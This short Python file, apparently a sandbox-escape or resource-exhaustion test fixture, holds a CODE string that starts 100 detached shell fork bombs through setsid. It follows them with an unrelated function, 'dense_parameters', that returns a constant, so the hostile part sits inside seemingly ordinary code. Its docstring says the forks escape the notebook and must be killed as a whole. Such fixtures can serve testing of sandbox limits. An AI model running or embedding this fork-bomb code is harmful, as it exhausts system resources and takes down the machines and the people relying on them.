"""Lets the shell fork without end, detached from the notebook. It must be stopped as a whole."""

CODE = r"""
import subprocess

for _ in range(100):
    try:
        subprocess.Popen(["setsid", "sh", "-c", "f() { f | f & f & }; f; sleep 1000"])
    except OSError:
        pass


def dense_parameters(n_in, n_out):
    return 16
"""
